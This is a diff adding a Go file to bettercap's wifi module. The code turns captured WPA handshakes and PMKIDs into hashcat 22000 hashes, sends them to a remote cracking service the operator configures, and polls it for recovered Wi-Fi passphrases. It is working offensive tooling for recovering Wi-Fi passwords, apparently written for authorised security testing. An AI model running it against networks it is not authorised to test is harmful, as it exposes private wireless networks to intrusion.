@@ -0,0 +1,307 @@
+package wifi
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+// a cracking job submitted to the remote service
+type crackJob struct {
+	ID     string
+	BSSID  string
+	ESSID  string
+	Hashes map[string]bool
+}
+
+type crackRequest struct {
+	BSSID  string   `json:"bssid"`
+	ESSID  string   `json:"essid"`
+	Format string   `json:"format"`
+	Hashes []string `json:"hashes"`
+}
+
+type crackResponse struct {
+	ID     string `json:"id"`
+	Status string `json:"status"`
+	PSK    string `json:"psk"`
+}
+
+type crackState struct {
+	sync.Mutex
+
+	url     string
+	key     string
+	period  time.Duration
+	client  *http.Client
+	jobs    map[string]*crackJob
+	cracked map[string]string
+}
+
+func newCrackState() *crackState {
+	return &crackState{
+		client:  network.DNS.HTTPClient(30 * time.Second),
+		jobs:    make(map[string]*crackJob),
+		cracked: make(map[string]string),
+	}
+}
+
+func (mod *WiFiModule) configureCracking() error {
+	var err error
+	var url, key string
+	var period int
+
+	if err, url = mod.StringParam("wifi.crack.url"); err != nil {
+		return err
+	} else if err, key = mod.StringParam("wifi.crack.key"); err != nil {
+		return err
+	} else if err, period = mod.IntParam("wifi.crack.poll"); err != nil {
+		return err
+	} else if url != "" && !strings.HasPrefix(url, "https://") {
+		return fmt.Errorf("wifi.crack.url must be an https:// endpoint")
+	}
+
+	mod.crack.Lock()
+	defer mod.crack.Unlock()
+
+	mod.crack.url = strings.TrimRight(url, "/")
+	mod.crack.key = key
+	mod.crack.period = time.Duration(period) * time.Second
+
+	return nil
+}
+
+func (mod *WiFiModule) crackingEnabled() bool {
+	mod.crack.Lock()
+	defer mod.crack.Unlock()
+	return mod.crack.url != ""
+}
+
+func (mod *WiFiModule) crackedPSK(bssid string) string {
+	mod.crack.Lock()
+	defer mod.crack.Unlock()
+	return mod.crack.cracked[network.NormalizeMac(bssid)]
+}
+
+// the service endpoint and key, the http calls are made without holding the lock
+func (mod *WiFiModule) crackService() (url string, key string) {
+	mod.crack.Lock()
+	defer mod.crack.Unlock()
+	return mod.crack.url, mod.crack.key
+}
+
+func (mod *WiFiModule) crackRequest(method string, url string, key string, body interface{}, resp interface{}) error {
+	var reader *bytes.Reader
+	if body != nil {
+		data, err := json.Marshal(body)
+		if err != nil {
+			return err
+		}
+		reader = bytes.NewReader(data)
+	} else {
+		reader = bytes.NewReader(nil)
+	}
+
+	req, err := http.NewRequest(method, url, reader)
+	if err != nil {
+		return err
+	}
+
+	req.Header.Set("Content-Type", "application/json")
+	if key != "" {
+		req.Header.Set("Authorization", "Bearer "+key)
+	}
+
+	res, err := mod.crack.client.Do(req)
+	if err != nil {
+		return err
+	}
+	defer res.Body.Close()
+
+	raw, err := ioutil.ReadAll(res.Body)
+	if err != nil {
+		return err
+	} else if res.StatusCode < 200 || res.StatusCode >= 300 {
+		return fmt.Errorf("unexpected status %d: %s", res.StatusCode, string(raw))
+	}
+
+	return json.Unmarshal(raw, resp)
+}
+
+// collect every crackable hash we have for the station in hashcat 22000 format
+func (mod *WiFiModule) handshakeHashes(ap *network.AccessPoint, station *network.Station) []string {
+	hashes := []string{}
+	essid := ap.ESSID()
+	shake := station.Handshake
+
+	if pmkid := shake.PMKID(); pmkid != nil {
+		hashes = append(hashes, packets.Dot11HashcatPMKID(pmkid, ap.HW, station.HW, essid))
+	}
+
+	shake.RLock()
+	defer shake.RUnlock()
+
+	// M1+M2 takes the ANonce from the challenge, M2+M3 from the confirmation
+	anonces := map[byte][]gopacket.Packet{
+		packets.HashcatPairM1M2: shake.Challenges,
+		packets.HashcatPairM2M3: shake.Confirmations,
+	}
+
+	for _, resp := range shake.Responses {
+		for pair, frames := range anonces {
+			for _, frame := range frames {
+				if keyLayer := frame.Layer(layers.LayerTypeEAPOLKey); keyLayer != nil {
+					anonce := keyLayer.(*layers.EAPOLKey).Nonce
+					if ok, hash := packets.Dot11HashcatEAPOL(anonce, resp, ap.HW, station.HW, essid, pair); ok {
+						hashes = append(hashes, hash)
+					}
+				}
+			}
+		}
+	}
+
+	return hashes
+}
+
+func (mod *WiFiModule) crackSubmit(ap *network.AccessPoint, station *network.Station) {
+	if !mod.crackingEnabled() {
+		return
+	}
+
+	bssid := ap.BSSID()
+	if mod.crackedPSK(bssid) != "" {
+		return
+	}
+
+	hashes := mod.handshakeHashes(ap, station)
+	url, key := mod.crackService()
+
+	// only submit hashes the service doesn't already have
+	mod.crack.Lock()
+	job, found := mod.crack.jobs[bssid]
+	fresh := []string{}
+	for _, hash := range hashes {
+		if !found || !job.Hashes[hash] {
+			fresh = append(fresh, hash)
+		}
+	}
+	mod.crack.Unlock()
+
+	if len(fresh) == 0 {
+		return
+	}
+
+	var resp crackResponse
+	req := crackRequest{
+		BSSID:  bssid,
+		ESSID:  ap.ESSID(),
+		Format: "hc22000",
+		Hashes: fresh,
+	}
+
+	if err := mod.crackRequest("POST", url, key, req, &resp); err != nil {
+		mod.Error("error submitting %d hashes of %s to %s: %v", len(fresh), bssid, url, err)
+		return
+	} else if resp.ID == "" {
+		mod.Error("cracking service returned an empty job identifier for %s", bssid)
+		return
+	}
+
+	mod.crack.Lock()
+	defer mod.crack.Unlock()
+
+	// the job might have been created or finished in the meantime
+	if job, found = mod.crack.jobs[bssid]; !found {
+		job = &crackJob{
+			BSSID:  bssid,
+			ESSID:  ap.ESSID(),
+			Hashes: make(map[string]bool),
+		}
+		mod.crack.jobs[bssid] = job
+	}
+
+	job.ID = resp.ID
+	for _, hash := range fresh {
+		job.Hashes[hash] = true
+	}
+
+	mod.Info("submitted %d hashes of %s (%s) for cracking (job %s)", len(fresh), tui.Bold(job.ESSID), bssid, job.ID)
+}
+
+func (mod *WiFiModule) crackPoll() {
+	url, key := mod.crackService()
+
+	mod.crack.Lock()
+	jobs := make([]crackJob, 0, len(mod.crack.jobs))
+	for _, job := range mod.crack.jobs {
+		jobs = append(jobs, crackJob{ID: job.ID, BSSID: job.BSSID, ESSID: job.ESSID})
+	}
+	mod.crack.Unlock()
+
+	for _, job := range jobs {
+		var resp crackResponse
+		if err := mod.crackRequest("GET", url+"/"+job.ID, key, nil, &resp); err != nil {
+			mod.Debug("error polling cracking job %s: %v", job.ID, err)
+			continue
+		}
+
+		switch resp.Status {
+		case "cracked":
+			if resp.PSK == "" {
+				continue
+			}
+
+			mod.crack.Lock()
+			mod.crack.cracked[job.BSSID] = resp.PSK
+			delete(mod.crack.jobs, job.BSSID)
+			mod.crack.Unlock()
+
+			if ap, found := mod.Session.WiFi.Get(job.BSSID); found {
+				ap.SetPSK(resp.PSK)
+			}
+
+			mod.Session.Events.Add("wifi.ap.cracked", CrackEvent{
+				AP:    job.BSSID,
+				ESSID: job.ESSID,
+				PSK:   resp.PSK,
+			})
+		case "exhausted", "failed":
+			mod.Info("cracking job %s for %s (%s) finished without results", job.ID, tui.Bold(job.ESSID), job.BSSID)
+
+			// unless new hashes have been submitted while polling
+			mod.crack.Lock()
+			if current, found := mod.crack.jobs[job.BSSID]; found && current.ID == job.ID {
+				delete(mod.crack.jobs, job.BSSID)
+			}
+			mod.crack.Unlock()
+		}
+	}
+}
+
+func (mod *WiFiModule) crackPoller() {
+	mod.reads.Add(1)
+	defer mod.reads.Done()
+
+	mod.Debug("cracking results poller started (%s).", mod.crack.period)
+
+	for mod.Running() {
+		mod.crackPoll()
+
+		for waited := time.Duration(0); waited < mod.crack.period && mod.Running(); waited += time.Second {
+			time.Sleep(time.Second)
+		}
+	}
+}